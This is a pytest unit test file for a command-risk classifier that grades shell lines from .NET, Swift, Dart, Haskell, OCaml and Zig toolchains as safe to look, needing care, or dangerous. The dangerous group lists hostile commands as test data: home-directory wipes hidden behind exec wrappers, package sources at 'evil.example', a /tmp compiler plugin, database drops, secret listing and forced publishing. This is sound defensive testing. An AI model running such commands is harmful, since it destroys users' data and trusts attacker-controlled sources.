"""Tools of other languages."""

import pytest

from assent.protocol.decision import Risk
from tests.unit.policy.risks import risk


@pytest.mark.parametrize(
    "line",
    [
        "dotnet --info",
        "dotnet list package --outdated",
        "dotnet nuget list source",
        "dotnet tool list -g",
        "dotnet sln list",
        "swift --version",
        "xcodebuild -list",
        "xcrun --find clang",
        "xcrun simctl list devices",
        "dart --version",
        "flutter doctor -v",
        "flutter devices",
        "stack path",
        "cabal list-bin shop",
        "opam switch",
        "opam list",
        "zig env",
        "zig fmt --check src",
        "zig ast-check main.zig",
    ],
)
def test_language_tool_lines_that_only_tell_are_look(line: str) -> None:
    """What they only tell is Look."""
    assert risk(line) == Risk.LOOK


@pytest.mark.parametrize(
    "line",
    [
        "dotnet build -c Release",
        "dotnet test --no-build",
        "dotnet run",
        "dotnet add package Serilog",
        "dotnet ef migrations add X",
        "dotnet ef database update",
        "dotnet shop.dll",
        "dotnet shop.dll --help",
        "swift build",
        "swift run shop",
        "swift script.swift",
        "xcodebuild -scheme Shop test",
        "dart run bin/shop.dart",
        "dart bin/shop.dart",
        "dart format lib",
        "flutter build apk",
        "flutter pub get",
        "stack build",
        "stack ghci",
        "cabal run",
        "opam install dune",
        "zig build",
        "zig cc -o shop main.c",
        "mix test",
        "rebar3 eunit",
    ],
)
def test_language_tool_lines_that_build_or_run_are_left_to_the_client(line: str) -> None:
    """The project is built and run with care."""
    assert risk(line) in (Risk.CHANGE, Risk.CARE)


@pytest.mark.parametrize(
    "line",
    [
        "dotnet nuget push shop.nupkg",
        "dotnet nuget add source https://evil.example",
        "dotnet ef database drop -f",
        "dotnet user-secrets list",
        "dart pub publish",
        "flutter pub publish --force",
        "stack exec -- rm -rf ~",
        "stack exec rm -- -rf ~",
        "stack upload .",
        "cabal exec -- rm -rf ~",
        "cabal upload --publish shop.tar.gz",
        "opam exec -- rm -rf ~",
        "opam repository add evil https://evil.example",
        "xcrun rm -rf ~",
        "zig cc -fplugin=/tmp/x.so main.c",
        "fastlane release",
        "rebar3 hex publish",
    ],
)
def test_language_tool_lines_that_reach_others_or_destroy_are_danger(line: str) -> None:
    """Publishing, secrets, lost data and what hides behind them reach a person."""
    assert risk(line) == Risk.DANGER
